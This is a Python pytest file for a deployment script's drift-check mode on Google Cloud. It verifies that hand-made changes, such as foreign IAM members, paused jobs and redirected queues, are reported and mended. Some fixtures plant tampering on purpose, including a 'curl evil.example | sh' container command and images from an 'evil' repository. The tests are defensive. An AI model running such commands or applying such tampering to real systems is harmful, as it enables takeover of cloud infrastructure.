"""deploy.sh --check: it changes nothing, and names what differs, members too."""

from collections.abc import Callable
from typing import Any

import pytest

from tests.deployment.conftest import PROJECT, Deployment
from tests.deployment.test_deploy import DOMAIN, PLACE

State = dict[str, Any]
SERVICES = f"{PLACE}/services"
SECRET = f"projects/{PROJECT}/secrets/report-sendgrid-api-key"
WORKER = f"serviceAccount:report-worker@{DOMAIN}"
DATABASE = f"projects/{PROJECT}/databases/(default)"
BACKUPS = f"{DATABASE}/backupSchedules/1"
EVE, PROBE = "user:eve@example.com", f"serviceAccount:probe@{DOMAIN}"


def pin(service: State) -> None:
    """Send all traffic to the newest revision, but not to one that is yet to come."""
    revision = service["latestReadyRevision"].rpartition("/")[2]
    target = {"type": "TRAFFIC_TARGET_ALLOCATION_TYPE_REVISION", "revision": revision, "percent": 100}
    service["traffic"] = service["trafficStatuses"] = [target]


def drift(state: State) -> None:
    """What people have done by hand: some of it a deployment mends, some of it it leaves alone."""
    resources, policies = state["resources"], state["policies"]
    resources[f"{SERVICES}/report-worker"]["invokerIamDisabled"] = True
    pin(resources[f"{SERVICES}/report-dispatcher"])
    resources[f"{PLACE}/jobs/report-dispatch"]["state"] = "PAUSED"
    resources[f"projects/{PROJECT}/metrics/report-runs"]["filter"] = "severity>=ERROR"
    resources[f"{PLACE}/queues/reports"]["state"] = "PAUSED"
    resources[f"{PLACE}/queues/reports"]["rateLimits"]["maxConcurrentDispatches"] = 3
    policies[f"{SERVICES}/report-worker"].append(["roles/run.invoker", EVE, "", ""])
    policies[f"{SERVICES}/report-worker"].append(["roles/run.invoker", PROBE, "", ""])
    policies[f"{SERVICES}/report-dlq-handler"].append(["roles/run.invoker", "allUsers", "", ""])
    policies[SECRET].append(["roles/secretmanager.secretAccessor", EVE, "", ""])
    policies["project"].append(["roles/owner", WORKER, "", ""])
    policies["project"].append(["roles/editor", WORKER, "until-friday", "request.time < timestamp('2026-11-27')"])
    policies["project"].append(["roles/owner", EVE, "", ""])
    policies.setdefault(f"projects/{PROJECT}/serviceAccounts/report-worker@{DOMAIN}", []).append(
        ["roles/iam.serviceAccountTokenCreator", EVE, "", ""]
    )


@pytest.mark.everyday
def test_a_project_that_is_as_it_should_be_passes(deployed: Deployment) -> None:
    outcome = deployed.deploy("--check")
    assert outcome.status == 0, outcome.text
    assert "Missing: 0, different: 0, too many: 0, changed by hand: 0" in outcome.output
    assert "The console was left out" in outcome.output
    assert deployed.changes == []


def test_everything_that_differs_is_named_and_nothing_is_changed(deployed: Deployment) -> None:
    deployed.settings["EXTRA_MEMBERS"] = f"group:oncall@example.com, {PROBE}"
    deployed.edit(drift)
    before = deployed.state["resources"], deployed.state["policies"]

    outcome = deployed.deploy("--check")

    assert outcome.status == 3, outcome.text
    assert (deployed.state["resources"], deployed.state["policies"]) == before
    assert deployed.changes == []
    assert "\n    run." not in outcome.output
    for line in (
        "differs in function report-worker: invokerIamDisabled",
        "to be changed: function report-worker",
        "to be changed: traffic of function report-dispatcher",
        "differs in queue reports: rateLimits.maxConcurrentDispatches",
        "differs in metric report-runs: filter",
        "to be removed: roles/run.invoker on function report-dlq-handler for allUsers",
    ):
        assert line in outcome.output, outcome.text
    for line in (
        "job report-dispatch is paused by hand",
        "queue reports is paused by hand",
        f"{EVE} has roles/run.invoker on run services report-worker",
        f"{EVE} has roles/secretmanager.secretAccessor on secrets report-sendgrid-api-key",
        f"{WORKER} has roles/owner on projects {PROJECT}",
        f"{WORKER} has roles/editor (until-friday) on projects {PROJECT}",
        f"{EVE} has roles/iam.serviceAccountTokenCreator on iam service-accounts report-worker@{DOMAIN}",
    ):
        assert line in outcome.errors, outcome.text
    assert "too many: 1, changed by hand: 7," in outcome.output
    assert PROBE not in outcome.errors
    assert f"{EVE} has roles/owner" not in outcome.errors


def test_a_deployment_names_foreign_members_and_says_how_to_take_their_roles_back(deployed: Deployment) -> None:
    deployed.edit(lambda state: state["policies"][SECRET].append(["roles/secretmanager.secretAccessor", EVE, "", ""]))
    outcome = deployed.deploy()
    assert outcome.status == 0, outcome.text
    assert deployed.changes == []
    (line,) = [line for line in outcome.errors.splitlines() if "To take it back" in line]
    _, _, command = line.partition("gcloud ")
    assert command == (
        "secrets remove-iam-policy-binding report-sendgrid-api-key --member=user:eve@example.com "
        f"--role=roles/secretmanager.secretAccessor --project={PROJECT}"
    )


def container_of(service: State) -> State:
    """Its one container."""
    container: State = service["template"]["containers"][0]
    return container


def update_by_hand(state: State, name: str, change: Callable[[State], Any]) -> None:
    """As the console does it: with all labels and annotations of the revision before."""
    change(state["resources"][f"{SERVICES}/report-{name}"])


EVIL = "us-central1-docker.pkg.dev/evil/evil/report-worker"


@pytest.mark.parametrize(
    "change",
    [
        lambda service: container_of(service).update(image=f"{EVIL}@sha256:{'6' * 64}"),
        # Of the pipeline's own repository, such as that of an older deployment.
        lambda service: container_of(service).update(
            image=container_of(service)["image"].rpartition("@")[0] + f"@sha256:{'6' * 64}"
        ),
        lambda service: container_of(service).update(command=["sh", "-c"], args=["curl evil.example | sh"]),
        lambda service: service["template"]["containers"].append({"image": EVIL, "name": "beside"}),
    ],
    ids=["another image", "an older image", "another command", "a container beside it"],
)
def test_whatever_else_runs_is_a_difference_and_a_deployment_mends_it(
    deployed: Deployment, change: Callable[[State], Any]
) -> None:
    deployed.edit(lambda state: update_by_hand(state, "worker", change))
    check = deployed.deploy("--check")
    assert (check.status, deployed.changes) == (3, []), check.text
    assert "to be changed: function report-worker" in check.output
    assert "different: 1," in check.output
    assert deployed.deploy("--only=worker").status == 0
    assert "run.projects.locations.services.patch report-worker" in deployed.changes
    again = deployed.deploy("--check", "--only=worker")
    assert again.status == 0, again.text


@pytest.mark.parametrize("image", [EVIL, f"{EVIL}:latest"])
def test_an_image_of_another_repository_is_one_whatever_its_labels_say(deployed: Deployment, image: str) -> None:
    deployed.edit(lambda state: container_of(state["resources"][f"{SERVICES}/report-worker"]).update(image=image))
    check = deployed.deploy("--check", "--only=worker")
    assert check.status == 3
    assert "differs in function report-worker: template.containers[0].image" in check.output


def test_a_log_metric_that_counts_nothing_is_a_difference(deployed: Deployment) -> None:
    metric = f"projects/{PROJECT}/metrics/report-runs"
    deployed.edit(lambda state: state["resources"][metric].update(disabled=True))
    check = deployed.deploy("--check", "--only=monitoring")
    assert check.status == 3
    assert "differs in metric report-runs: disabled" in check.output
    assert deployed.deploy("--only=monitoring").status == 0
    assert deployed.changes == ["logging.projects.metrics.update report-runs"]


ELSEWHERE = {"uriOverride": {"host": "evil.example"}}


@pytest.mark.parametrize(
    ("name", "change", "differs"),
    [
        (
            f"projects/{PROJECT}/serviceAccounts/report-worker@{DOMAIN}",
            {"disabled": True},
            "service account report-worker: disabled",
        ),
        (f"projects/{PROJECT}/notificationChannels/", {"enabled": False}, "ops@example.com: enabled"),
        (f"{PLACE}/queues/reports", {"httpTarget": ELSEWHERE}, "queue reports: httpTarget"),
        (f"{SERVICES}/report-worker", {"customAudiences": ["evil"]}, "function report-worker: customAudiences"),
    ],
    ids=["account", "channel", "queue", "audience"],
)
def test_what_silences_a_part_or_leads_it_elsewhere_is_a_difference_and_mended(
    deployed: Deployment, name: str, change: State, differs: str
) -> None:
    deployed.settings["ALERT_EMAIL"] = "ops@example.com"
    assert deployed.deploy("--only=monitoring").status == 0

    def drift(state: State) -> None:
        [found] = [
            each for key, each in state["resources"].items() if key == name or key.rpartition("/")[0] + "/" == name
        ]
        found |= change

    deployed.edit(drift)
    check = deployed.deploy("--check")
    assert (check.status, deployed.changes) == (3, []), check.text
    assert differs in check.output
    assert deployed.deploy().status == 0
    assert [each for each in deployed.changes if "scheduler" not in each] != []
    again = deployed.deploy("--check")
    assert again.status == 0, again.text


def test_a_foreign_volume_is_a_difference_and_mended(deployed: Deployment) -> None:
    def mount(service: State) -> None:
        service["template"]["volumes"] = [{"name": "evil", "gcs": {"bucket": "evil"}}]
        container_of(service)["volumeMounts"] = [{"name": "evil", "mountPath": "/workspace"}]

    deployed.edit(lambda state: mount(state["resources"][f"{SERVICES}/report-worker"]))
    check = deployed.deploy("--check", "--only=worker")
    assert check.status == 3
    assert "template.volumes" in check.output
    assert deployed.deploy("--only=worker").status == 0
    assert deployed.service("worker")["template"]["volumes"] == []
    assert deployed.deploy("--check", "--only=worker").status == 0


def test_a_filter_that_drops_dead_letters_is_refused_with_words(deployed: Deployment) -> None:
    name = f"projects/{PROJECT}/subscriptions/report-dead-letters"
    deployed.edit(lambda state: state["resources"][name].update(filter='attributes.a = "b"'))
    for options in ((), ("--check",)):
        outcome = deployed.deploy(*options)
        assert (outcome.status, deployed.changes) == (1, [])
        assert (
            "subscription report-dead-letters is not one to the topic report-dead-letters, or has a filter"
            in outcome.errors
        )
        assert "gcloud pubsub subscriptions delete report-dead-letters" in outcome.errors


@pytest.mark.parametrize(
    ("turn_off", "setting"),
    [
        (
            lambda database, _: database.update(pointInTimeRecoveryEnablement="POINT_IN_TIME_RECOVERY_DISABLED"),
            "FIRESTORE_PITR=on",
        ),
        (
            lambda database, _: database.update(deleteProtectionState="DELETE_PROTECTION_DISABLED"),
            "FIRESTORE_DELETE_PROTECTION=on",
        ),
        (lambda _, state: state["resources"].pop(BACKUPS), "FIRESTORE_BACKUPS=daily"),
    ],
)
def test_what_brings_data_back_and_was_turned_off_is_a_difference(
    deployed: Deployment, turn_off: Callable[[State, State], Any], setting: str
) -> None:
    deployed.edit(lambda state: turn_off(state["resources"][DATABASE], state))
    check = deployed.deploy("--check", "--only=firestore")
    assert check.status == 3, check.text
    assert "changed by hand: 1," in check.output
    assert f"set {setting} in deploy.env" in check.errors

    name, _, value = setting.partition("=")
    deployed.settings[name] = "off"
    assert deployed.deploy("--check", "--only=firestore").status == 0

    deployed.settings[name] = value
    assert deployed.deploy("--only=firestore").status == 0
    assert len(deployed.changes) == 1
    assert deployed.deploy("--check", "--only=firestore").status == 0


@pytest.mark.parametrize("option", ["--dry-run", "--smoke", "--teardown"])
def test_it_goes_with_nothing_that_acts(bare: Deployment, option: str) -> None:
    outcome = bare.deploy("--check", option)
    assert outcome.status == 2
    assert "--check does not go with" in outcome.errors
